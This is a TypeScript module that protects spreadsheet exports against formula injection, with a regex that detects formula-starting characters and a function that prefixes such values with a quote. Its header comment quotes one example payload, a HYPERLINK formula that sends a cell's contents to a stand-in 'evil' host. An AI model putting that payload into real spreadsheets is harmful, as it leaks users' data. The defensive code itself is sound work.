/**
 * Formula-injection guard for text that a spreadsheet will open (DESIGN.md section 6: "a cell
 * beginning with = + - @ is written as text"; OWASP "CSV Injection").
 *
 * Scan values come from whoever printed the barcode and product names from whoever filled the
 * catalogue, so a value like `=HYPERLINK("http://evil/?"&A1,"Click")` must reach the reader as
 * text. Excel, LibreOffice and Google Sheets start a formula on = + - @, and also after a
 * leading tab, CR or LF, after leading (Unicode) whitespace, and on the full-width forms
 * ＝ ＋ － ＠ in East Asian locales; all of them are caught here.
 *
 * The guard prefixes a single quote, which every spreadsheet shows as a text marker and which
 * StockTally's own readers drop when a report is read back (DESIGN.md section 5 step 1).
 * Used by the CSV writer; the XLSX writer stores text in string-typed cells instead, which no
 * spreadsheet evaluates, so there the original text stays unchanged.
 *
 * Papaparse has its own `escapeFormulae`, but its pattern misses a multi-line value such as
 * "=1+1\nx" and leading whitespace, hence this function.
 */

/** = + - @, their full-width forms, after optional leading whitespace; or a leading tab/CR/LF. */
const FORMULA_START = /^(?:[\t\r\n]|\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20])/u;

/** True when a spreadsheet could read `text` as the start of a formula. */
export function looksLikeFormula(text: string): boolean {
  return FORMULA_START.test(text);
}

/**
 * `text` made safe to open in a spreadsheet: unchanged when harmless, else prefixed with `'`
 * (so a guarded value is never guarded twice). Apply to text cells only: a number written as a
 * number (e.g. a negative difference) is never a formula.
 *
 * @example spreadsheetSafe('=1+1') === "'=1+1"; spreadsheetSafe('SKU-1') === 'SKU-1'
 */
export function spreadsheetSafe(text: string): string {
  return looksLikeFormula(text) ? `'${text}` : text;
}
